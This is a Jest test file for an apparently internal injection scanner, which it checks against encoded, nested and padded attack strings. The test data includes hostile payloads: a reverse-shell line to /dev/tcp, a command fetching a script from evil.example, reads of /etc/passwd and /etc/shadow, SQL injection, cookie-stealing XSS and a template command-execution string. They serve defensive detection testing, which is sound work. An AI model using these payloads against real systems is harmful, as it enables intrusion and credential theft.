import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { createLogger } from '@crowdpay/log';
import { createMetrics } from '@crowdpay/metrics';
import { createInjectionScanner, type InjectionScanner, textsOf } from '../src/index.ts';

const log = createLogger({ name: 'test', level: 'silent' });
const metrics = createMetrics({ service: 'test' });

describe('the injection scan', () => {
  let scanner: InjectionScanner;

  beforeAll(() => {
    // The machine may be busy: these tests are about what is seen, not how fast.
    scanner = createInjectionScanner({ log, metrics, budgetMs: 20_000 });
  });

  afterAll(() => {
    scanner.close();
  });

  const scan = (value: string) => scanner.scan([{ path: 'variables.note', value }]);
  const scanJson = (value: unknown) => scanner.scan(textsOf(value, 'variables'));

  it.each([
    ['SQL', "x' OR 1=1 --"],
    ['SQL', '1; DROP TABLE users; --'],
    ['SQL', "1' UNION SELECT password FROM users --"],
    ['XSS', '<script>alert(document.cookie)</script>'],
    ['XSS', '<img src=x onerror=alert(1)>'],
    ['COMMAND', '; bash -i >& /dev/tcp/192.0.2.1/4242 0>&1'],
    ['TRAVERSAL', '; cat /etc/passwd'],
    ['COMMAND', '$(wget http://evil.example/x.sh)'],
    ['TRAVERSAL', '../../../etc/shadow'],
    ['TRAVERSAL', '..%2f..%2f..%2fwindows%2fwin.ini'],
    ['TEMPLATE', "${T(java.lang.Runtime).getRuntime().exec('id')}"],
    ['NOSQL', '{"$where": "sleep(5000)"}'],
    ['NOSQL', 'username[$ne]=1'],
  ])('sees %s in %s', (kind, value) => {
    const findings = scan(value);
    expect(findings.map((finding) => finding.path)).toContain('variables.note');
    expect(findings.map((finding) => finding.kind)).toContain(kind);
  });

  it.each([
    'Holiday in Rome, autumn 2026',
    "Anna's birthday & farewell party: 50% off!",
    'O’Brien & Söhne GmbH, Straße 12–14',
    'We select a table at the restaurant and drop by from 8 to 10.',
    'Total: $1,250.00 (incl. 19% VAT)',
    'https://crowdpay.example/pods/pod_01jd?tab=members#top',
    'tok.01jd3v9k5w7q2m8x4n6p0r1s3t@pii.invalid',
    '祝你生日快乐 🎉',
    '',
  ])('lets %j through', (value) => {
    expect(scan(value)).toEqual([]);
  });

  it('says where the attack stands, and nothing of what it says', () => {
    const findings = scanJson({ input: { title: 'Rome', tags: ['a', "x' OR 1=1 --"] } });
    expect(findings).toContainEqual({
      path: 'variables.input.tags.1',
      kind: 'SQL',
      rule: expect.any(String) as unknown,
    });
    expect(JSON.stringify(findings)).not.toContain('OR 1=1');
  });

  describe('has no blind spot', () => {
    const attack = "x' UNION SELECT password FROM users --";

    it.each([4_000, 4_080, 4_096, 6_000, 8_180, 50_000])('behind %i harmless characters', (length) => {
      expect(scan('a '.repeat(length / 2) + attack)).not.toEqual([]);
    });

    it('behind harmless characters that take three bytes each', () => {
      for (const length of [1_300, 1_365, 2_000, 4_000])
        expect(scan('€'.repeat(length) + ' ' + attack)).not.toEqual([]);
    });

    it('deep in a value', () => {
      let value: unknown = attack;
      for (let depth = 0; depth < 1_000; depth += 1) value = { inner: [value] };
      expect(scanJson(value)).not.toEqual([]);
    });

    it('at any place of a long list', () => {
      for (const place of [0, 249, 250, 255, 256, 999]) {
        const list = Array<string>(1_000).fill('harmless');
        list[place] = attack;
        expect(scanJson({ list })[0]?.path).toBe(`variables.list.${place}`);
      }
    });

    it('in the name of a key', () => {
      expect(scanJson({ filter: { $where: '1' } })[0]).toMatchObject({ kind: 'NOSQL', path: 'variables.filter.(key)' });
      expect(scanJson({ filter: { [attack]: 1 } })).not.toEqual([]);
    });

    it.each([
      ['percent encoding', '%3Cscript%3Ealert(1)%3C%2Fscript%3E'],
      ['percent encoding, twice', '%253Cscript%253Ealert(1)%253C%252Fscript%253E'],
      ['escapes', '\\u003cscript\\u003ealert(1)\\x3c/script\\x3e'],
      ['HTML entities', '&lt;script&#62;alert(1)&#x3c;/script&gt;'],
      ['compatibility characters', '＜script＞alert(1)＜/script＞'],
      ['several encodings at once', '%5Cu003cscript%5Cu003ealert(1)'],
    ])('in %s', (_what, value) => {
      expect(scan(value)).not.toEqual([]);
    });
  });

  describe('fails closed', () => {
    it('when there is no time to judge', () => {
      const hasty = createInjectionScanner({ log, metrics, budgetMs: 0 });
      expect(hasty.scan([{ path: 'variables.note', value: 'harmless' }])).toEqual([
        { path: 'variables.note', kind: 'OTHER', rule: 'limit.time' },
      ]);
      hasty.close();
    });

    it('when the time ends while it judges', () => {
      const hasty = createInjectionScanner({ log, metrics, budgetMs: 5 });
      const texts = Array.from({ length: 2_000 }, (_unused, index) => `text ${index} ${'lorem ipsum '.repeat(80)}`);
      expect(hasty.scan(textsOf({ texts }, 'variables'))[0]?.rule).toBe('limit.time');
      hasty.close();
    });

    it('when the engine does', () => {
      const broken = createInjectionScanner({ log, metrics });
      broken.close();
      expect(broken.scan([{ path: 'variables.note', value: 'harmless' }])[0]?.rule).toBe('limit.engine');
    });
  });

  it('counts its findings by kind', async () => {
    scan("x' OR 1=1 --");
    expect(await metrics.text()).toMatch(/injection_scan_findings_total\{kind="SQL"[^}]*\} [1-9]/);
  });
});
